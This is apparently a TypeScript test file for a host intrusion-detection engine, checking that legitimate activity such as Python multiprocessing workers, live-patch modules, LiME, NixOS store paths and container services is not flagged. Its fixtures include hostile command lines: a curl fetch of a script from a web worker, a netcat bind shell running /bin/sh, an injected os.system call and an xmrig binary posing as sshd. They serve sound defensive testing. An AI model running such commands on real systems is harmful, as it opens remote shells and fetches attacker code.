// What the seventeenth blind corpus taught, each beside the form that stays a finding: Python's multiprocessing
// workers under a web app, live-patch and tracing modules with their tool installed, Mellanox MFT, LiME loaded as its
// documentation says, NixOS's store paths, openSUSE's unix2_chkpwd, and a container's own service listening inside it.
import { test } from "tap";
import { getDetection } from "../../shared/engine/index.js";
import type { DetectionHit, HostData, Row } from "../../shared/engine/index.js";
import { host, proc } from "./helpers.js";

const NO_ENTITIES = { entities: { ips: [], sha256: [], advisories: [], users: [], ports: [], paths: [], domains: [], tags: {} } };
const all = (id: string, h: HostData): DetectionHit[] => getDetection(id)?.evaluate(h, NO_ENTITIES) ?? [];
const findings = (id: string, h: HostData): DetectionHit[] => all(id, h).filter((x) => x.kept_by === undefined && x.severity !== "info");
/** A hit that exists and that no baseline keeps (an absent hit is no proof of a finding). */
const flagged = (h: DetectionHit | undefined): boolean => h !== undefined && h.kept_by === undefined;

test("Python's multiprocessing workers of a web app are its own, nothing else on the line", async (t) => {
  const uvicorn = proc(1118, "uvicorn", "/usr/bin/python3.10", "/usr/bin/python3 /usr/local/bin/uvicorn app:api --workers 2", { uid: "998" });
  const child = (cmdline: string, path = "/usr/bin/python3.10") => findings("webshell-shell-spawn", host({ processes: [uvicorn, proc(1136, "python3", path, cmdline, { parent: "1118", uid: "998" })] }));
  t.same(child("/usr/bin/python3 -c from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, pipe_handle=7) --multiprocessing-fork"), []);
  t.same(child("/usr/bin/python3 -c from multiprocessing.resource_tracker import main;main(4)"), []);
  t.equal(child("/usr/bin/python3 -c from multiprocessing.spawn import spawn_main; spawn_main(pipe_handle=7) --multiprocessing-fork; import os; os.system('id')").length, 1, "more on the line");
  t.equal(child("/tmp/python3 -c from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, pipe_handle=7) --multiprocessing-fork", "/tmp/python3").length, 1, "another interpreter than the app's");
  // What an adversarial review found: the bootstrap runs whatever it is sent, so a worker that starts programs is judged.
  const worker = proc(1136, "python3", "/usr/bin/python3.10", "/usr/bin/python3 -c from multiprocessing.spawn import spawn_main; spawn_main(pipe_handle=3) --multiprocessing-fork", { parent: "1118", uid: "998" });
  t.equal(findings("webshell-shell-spawn", host({ processes: [uvicorn, worker, proc(1140, "curl", "/usr/bin/curl", "curl -s http://203.0.113.7/x.sh", { parent: "1136", uid: "998" })] })).length, 1);
});

test("live-patch and tracing modules are their tool's only when the tool is on the host", async (t) => {
  const kmod = (name: string, tables: Record<string, Row[]> = {}) => all("unexpected-kernel-module", host({ kernel_modules: [{ name, status: "Live", used_by: "-" }], ...tables })).find((h) => h.entity === `kmod:${name}`);
  t.equal(kmod("ksplice_7t2ld9ah", { rpm_packages: [{ name: "uptrack", version: "1.2.91" }] })?.kept_by, "kmod:ksplice");
  t.equal(kmod("kpatch_5_14_0_427_37_1_1_3", { rpm_packages: [{ name: "kpatch", version: "0.9.7" }] })?.kept_by, "kmod:kpatch");
  t.equal(kmod("lkp_Ubuntu_5_15_0_126_139_generic_119", { processes: [proc(5, "canonical-livep", "/snap/canonical-livepatch/282/canonical-livepatchd")] })?.kept_by, "kmod:canonical-livepatch");
  const stap = "stap_5b1a6e2e5c3f4a6a9d8f0e2b1c3d4e5f_18842";
  t.equal(kmod(stap, { processes: [proc(6, "staprun", "/usr/bin/staprun", `/usr/bin/staprun -v -R -o /tmp/iolat.out /tmp/stapGk8fQ2/${stap}.ko`)] })?.kept_by, "kmod:systemtap");
  // What an adversarial review found the first reading let through: a tool's name on any file, any suffix.
  t.ok(flagged(kmod(stap, { processes: [proc(6, "staprun", "/tmp/staprun", `/tmp/staprun ${stap}.ko`)] })), "a file named staprun elsewhere");
  t.ok(flagged(kmod(stap, { processes: [proc(6, "staprun", "/usr/bin/staprun", "/usr/bin/staprun /tmp/other.ko")] })), "staprun running another module");
  t.ok(flagged(kmod("ksplice_rootkit1_hide_procs", { rpm_packages: [{ name: "uptrack", version: "1.2.91" }] })), "Ksplice's names end in _new or _old");
  t.ok(flagged(kmod("lkp_Ubuntu_5_15_0_126_139_generic_119", { processes: [proc(5, "canonical-livep", "/var/tmp/canonical-livepatchd")] })), "the daemon's name elsewhere than its snap");
  t.ok(flagged(kmod("kpatch_5_14_0_427_37_1_1_3")), "a kpatch-shaped name without kpatch");
  t.ok(flagged(kmod("kpatch_x", { rpm_packages: [{ name: "kpatch", version: "0.9.7" }] })), "the shape is kpatch's build's, not any suffix");
  t.equal(kmod("mst_pciconf", { rpm_packages: [{ name: "kernel-mft", version: "4.28.0" }] })?.kept_by, "kmod:mellanox-mft");
  t.ok(flagged(kmod("mst_pci")), "MFT's module name without MFT");
});

test("LiME loaded as its documentation says is an observation; its kernel listener is its own", async (t) => {
  const insmod = proc(1501, "insmod", "/usr/bin/kmod", "insmod /tmp/ir/lime-5.15.0-126-generic.ko path=tcp:4444 format=lime");
  const h = host({ kernel_modules: [{ name: "lime", status: "Live", used_by: "-" }], processes: [insmod], listening_ports: [{ pid: "-1", port: "4444", protocol: "6", family: "2", address: "0.0.0.0" }] });
  const mods = all("unexpected-kernel-module", h);
  t.equal(mods.find((x) => x.entity === "kmod:lime" && x.evidence.some((e) => e.table === "kernel_modules"))?.severity, "info");
  const traced = all("unexpected-kernel-module", host({ kernel_modules: [{ name: "lime", status: "Live", used_by: "-" }], processes: [insmod], shell_history: [{ uid: "0", command: "insmod /tmp/ir/lime-5.15.0-126-generic.ko path=tcp:4444 format=lime", history_file: "/root/.bash_history" }] }));
  t.ok(traced.some((x) => /lime-5\.15\.0-126-generic/.test(x.summary)), "the insmod in history is a trace");
  t.notOk(traced.some((x) => /not in the loaded module list/.test(x.summary)), "lime-5.15.0-126-generic.ko is the loaded lime");
  t.equal(all("unexpected-listener", h)[0]?.severity, "info");
  const hidden = all("unexpected-kernel-module", host({ kernel_modules: [{ name: "lime" }], shell_history: [{ uid: "0", command: "insmod /tmp/x/limeade.ko", history_file: "/root/.bash_history" }] }));
  t.ok(hidden.some((x) => /limeade: .*not in the loaded module list/.test(x.summary)), "a module file whose module is not loaded stays what it was");
  const other = all("unexpected-listener", host({ kernel_modules: [{ name: "lime" }], processes: [insmod], listening_ports: [{ pid: "-1", port: "4445", protocol: "6", family: "2", address: "0.0.0.0" }] }));
  t.ok(other[0] !== undefined && other[0].severity !== "info", "a kernel listener on another port");
  // What an adversarial review found the first reading let through: LiME's words on any process, or in anyone's history.
  const decoy = proc(1502, "sleep", "/usr/bin/sleep", "insmod lime.ko path=tcp:4444 format=lime", { uid: "65534" });
  const decoyed = all("unexpected-listener", host({ kernel_modules: [{ name: "lime" }], processes: [decoy], listening_ports: [{ pid: "-1", port: "4444", protocol: "6", family: "2", address: "0.0.0.0" }] }))[0];
  t.ok(decoyed !== undefined && decoyed.severity !== "info", "a decoy command line");
  const history = all("unexpected-kernel-module", host({ kernel_modules: [{ name: "lime", status: "Live", used_by: "-" }], shell_history: [{ uid: "1000", command: "insmod lime.ko path=/dev/null format=raw", history_file: "/home/bob/.bash_history" }] }));
  const byHistory = history.find((x) => x.evidence.some((e) => e.table === "kernel_modules"));
  t.ok(byHistory !== undefined && byHistory.severity !== "info", "a line in someone's history");
});

test("NixOS runs system daemons from their packages' store paths", async (t) => {
  const store = "/nix/store/2sfvnvpkgwb8pfq9ww0vmbrdd6qv0m8m-systemd-255.6";
  const init = proc(1, "systemd", `${store}/lib/systemd/systemd`, "/run/current-system/systemd/lib/systemd/systemd");
  const masq = (name: string, path: string, uid = "0", nixos = true) => findings("process-masquerading", host({ processes: [...(nixos ? [init] : []), proc(350, name, path, path, { uid })] }));
  t.same(masq("systemd-journal", `${store}/lib/systemd/systemd-journald`), []);
  t.same(masq("systemd", `${store}/lib/systemd/systemd`), []);
  t.same(masq("sshd", "/nix/store/9w1q8bg1wkv2rn6z4cfsnsv0lqw3h8b1-openssh-9.7p1/bin/sshd"), []);
  t.equal(masq("sshd", "/nix/store/9w1q8bg1wkv2rn6z4cfsnsv0lqw3h8b1-xmrig-6.21.0/bin/sshd").length, 1, "another package's store path");
  t.equal(masq("systemd-journal", "/nix/var/x/systemd-journald").length, 1, "outside the store");
  // What an adversarial review found the first reading let through: any user may add a store path the Nix daemon allows.
  t.equal(masq("sshd", "/nix/store/9w1q8bg1wkv2rn6z4cfsnsv0lqw3h8b1-openssh-9.7p1/bin/sshd", "1000").length, 1, "a person's process");
  t.equal(masq("sshd", "/nix/store/9w1q8bg1wkv2rn6z4cfsnsv0lqw3h8b1-openssh-9.7p1/bin/sshd", "0", false).length, 1, "on a host that is no Nix host");
  t.equal(masq("sshd", "/nix/store/9w1q8bg1wkv2rn6z4cfsnsv0lqw3h8b1-openssh-9.7p1/x/.hidden/xmrig").length, 1, "another file of the package's path");
  const unit = findings("suspicious-systemd-unit", host({ processes: [init], systemd_units: [{ id: "systemd-timesyncd.service", fragment_path: "/etc/systemd/system/systemd-timesyncd.service", active_state: "active", sub_state: "running" }], augeas: [{ path: "/etc/systemd/system/systemd-timesyncd.service", node: "/files/etc/systemd/system/systemd-timesyncd.service/Service/ExecStart/command", value: `${store}/lib/systemd/systemd-timesyncd`, label: "command" }] }));
  t.same(unit, [], "a unit running systemd's program from its store path");
});

test("openSUSE's setuid unix2_chkpwd", async (t) => {
  const suid = (path: string) => findings("unexpected-suid", host({ suid_bin: [{ path, username: "root", groupname: "shadow", permissions: "S" }] }));
  t.same(suid("/usr/sbin/unix2_chkpwd"), []);
  t.equal(findings("unexpected-suid", host({ suid_bin: [{ path: "/usr/sbin/unix2_chkpwd", username: "root", groupname: "root", permissions: "S" }] })).length, 1, "owned by root's group, not shadow as openSUSE's is");
  t.equal(suid("/usr/local/sbin/unix2_chkpwd").length, 1);
});

test("a container's own service listening inside it is inventory; a shell there is not", async (t) => {
  const inside = { cgroup_path: "/system.slice/docker-3f2a9c1b7d4e5f60718293a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4.scope", root: "/var/lib/docker/overlay2/abc/merged", uid: "1000" };
  const listen = (p: Row, port: number) => all("unexpected-listener", host({ processes: [p], listening_ports: [{ pid: String(p.pid), port: String(port), protocol: "6", family: "2", address: "0.0.0.0" }] }))[0];
  t.equal(listen(proc(960, "node", "/usr/local/bin/node", "node dist/server.js", inside), 8080)?.severity, "info");
  t.match(listen(proc(960, "node", "/usr/local/bin/node", "node dist/server.js", inside), 8080)?.summary, /inside a container/);
  t.equal(listen(proc(961, "nc", "/usr/bin/nc", "nc -lvp 9001 -e /bin/sh", inside), 9001)?.severity, "high", "a netcat inside a container");
  t.ok(flagged(listen(proc(962, "node", "/usr/local/bin/node", "node dist/server.js", { uid: "1000" }), 8080)) && listen(proc(962, "node", "/usr/local/bin/node", "node dist/server.js", { uid: "1000" }), 8080)?.severity !== "info", "the same on the host keeps the default");
  // What an adversarial review found the first reading let through: a user's own scope or chroot looks like a container.
  t.ok(flagged(listen(proc(963, "kdevd", "/usr/local/bin/kdevd", "kdevd", { uid: "1000", cgroup_path: "/user.slice/user-1000.slice/user@1000.service/app.slice/docker-0123456789ab.scope" }), 18080)) && listen(proc(963, "kdevd", "/usr/local/bin/kdevd", "kdevd", { uid: "1000", cgroup_path: "/user.slice/user-1000.slice/user@1000.service/app.slice/docker-0123456789ab.scope" }), 18080)?.severity !== "info", "a scope under user.slice");
  t.ok(flagged(listen(proc(964, "kdevd", "/usr/local/bin/kdevd", "kdevd", { uid: "65534", root: "/home/bob/.r" }), 18080)) && listen(proc(964, "kdevd", "/usr/local/bin/kdevd", "kdevd", { uid: "65534", root: "/home/bob/.r" }), 18080)?.severity !== "info", "a chroot of a user's");
  t.ok(flagged(listen(proc(965, "kdevd", "/home/bob/.cache/.x/kdevd", "kdevd", inside), 18080)) && listen(proc(965, "kdevd", "/home/bob/.cache/.x/kdevd", "kdevd", inside), 18080)?.severity !== "info", "from a hidden directory inside a container");
});

test("a program started at boot twice over, by a unit and by an @reboot job (Prometei, UNC5174)", async (t) => {
  const unit = { path: "/etc/systemd/system/uplugplay.service", node: "/files/etc/systemd/system/uplugplay.service/Service/ExecStart/command", value: "/usr/sbin/sqhost", label: "command" };
  const cron = (event: string, command: string) => findings("suspicious-cron", host({ augeas: [unit], crontab: [{ event, command, path: "/var/spool/cron/root", minute: "", hour: "", day_of_month: "", month: "", day_of_week: "" }] }));
  t.equal(cron("@reboot", "/usr/sbin/sqhost")[0]?.severity, "high");
  t.match(cron("@reboot", "/usr/sbin/sqhost")[0]?.summary, /uplugplay\.service also starts/);
  t.same(cron("@reboot", "/usr/local/bin/warm-cache.sh"), [], "another program at boot");
  t.same(cron("", "/usr/sbin/sqhost --rotate"), [], "the unit's program on a schedule, not at boot");
});
